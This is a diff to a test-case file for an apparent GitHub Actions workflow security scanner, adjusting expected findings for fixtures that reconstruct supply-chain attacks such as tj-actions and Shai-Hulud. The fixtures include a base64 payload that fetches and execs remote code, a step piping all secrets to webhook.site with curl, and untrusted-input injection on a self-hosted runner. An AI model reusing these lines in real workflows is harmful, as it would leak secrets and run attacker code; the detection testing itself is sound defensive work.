@@ -40,6 +40,11 @@ const LZMA_MAGIC = Buffer.from([0x5d, 0x00, 0x00, 0x80, 0x00]);
 const b64 = (s: string) => Buffer.from(s).toString('base64');
 const PAYLOAD = b64('import os, urllib.request\n' + 'exec(urllib.request.urlopen("http://203.0.113.9/p").read())\n'.repeat(4));
 const WF = '.github/workflows';
+/**
+ * True findings of the workflow audit that a reconstruction carries without being what it shows: the
+ * attack workflow declares no `permissions:` and leaves checkout's credentials in place.
+ */
+const INCIDENTAL = ['workflow/default-permissions', 'workflow/checkout-persist-credentials'];
 const PINNED = 'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2';
 
 const png = Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR', 'latin1'), Buffer.alloc(200, 7)]);
@@ -95,7 +100,7 @@ export const CASES: Case[] = [
         '      - run: |\n          git checkout ${{ github.head_ref }}\n          pip install . && python format.py\n'
     },
     expect: ['workflow/dangerous-trigger', 'workflow/template-injection'],
-    also: ['meta/governance-edit']
+    also: ['meta/governance-edit', ...INCIDENTAL]
   },
   {
     name: 'tj-actions: base64 payload added to bundled dist/index.js',
@@ -120,7 +125,8 @@ export const CASES: Case[] = [
         '      - run: echo \'${{ toJSON(secrets) }}\' | curl -d @- https://webhook.site/abc\n'
     },
     expect: ['workflow/secrets-to-outside-host', 'workflow/all-secrets'],
-    also: ['meta/governance-edit']
+    // `${{ toJSON(secrets) }}` in a script is also an expansion of secrets into it (info).
+    also: ['meta/governance-edit', 'workflow/template-injection', ...INCIDENTAL]
   },
   {
     name: 'Shai-Hulud: discussion-triggered workflow on a self-hosted runner runs the body',
@@ -128,8 +134,8 @@ export const CASES: Case[] = [
     head: {
       [`${WF}/discussion.yaml`]: 'name: Discussion Create\non:\n  discussion:\njobs:\n  process:\n    env:\n      RUNNER_TRACKING_ID: 0\n    runs-on: self-hosted\n    steps:\n      - uses: actions/checkout@v5\n      - name: Handle Discussion\n        run: echo ${{ github.event.discussion.body }}\n'
     },
-    expect: ['workflow/untrusted-trigger', 'workflow/self-hosted-pr', 'workflow/template-injection', 'workflow/unpinned-uses'],
-    also: ['meta/governance-edit']
+    expect: ['workflow/untrusted-trigger', 'workflow/self-hosted-runner', 'workflow/template-injection', 'workflow/unpinned-uses'],
+    also: ['meta/governance-edit', ...INCIDENTAL]
   },
   {
     name: 'workflow registers a self-hosted runner',
@@ -138,7 +144,7 @@ export const CASES: Case[] = [
       [`${WF}/ci.yml`]: `on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -o r.tgz -L https://github.com/actions/runner/releases/download/v2.330.0/actions-runner-linux-x64-2.330.0.tar.gz\n          ./config.sh --url https://github.com/x/y --token AAAA --unattended\n          nohup ./run.sh &\n`
     },
     expect: ['workflow/runner-registration'],
-    also: ['meta/governance-edit']
+    also: ['meta/governance-edit', ...INCIDENTAL]
   },
   {
     name: 'workflow gains write-all permissions',
@@ -153,7 +159,8 @@ export const CASES: Case[] = [
     label: 'malicious',
     base: { [`${WF}/ci.yml`]: `on: pull_request\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n` },
     head: { [`${WF}/ci.yml`]: `on: pull_request\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n      - uses: tj-actions/changed-files@v45\n` },
-    expect: ['workflow/unpinned-uses'],
+    // Its tags were moved to the malicious commit in March 2025: a run then ran it.
+    expect: ['workflow/unpinned-uses', 'workflow/compromised-action'],
     also: ['meta/governance-edit']
   },
   {
@@ -549,7 +556,8 @@ export const CASES: Case[] = [
     label: 'benign',
     head: { [`${WF}/gpu.yml`]: `on:\n  push:\n    branches: [main]\npermissions:\n  contents: read\njobs:\n  gpu:\n    runs-on: [self-hosted, gpu]\n    steps:\n      - uses: ${PINNED}\n        with:\n          persist-credentials: false\n      - run: pytest tests/gpu\n` },
     expect: [],
-    also: ['meta/governance-edit']
+    // A self-hosted runner no PR reaches is still said, at low (the audit reports every self-hosted job).
+    also: ['meta/governance-edit', 'workflow/self-hosted-runner']
   },
   {
     name: 'configure.ac gains a comment only',
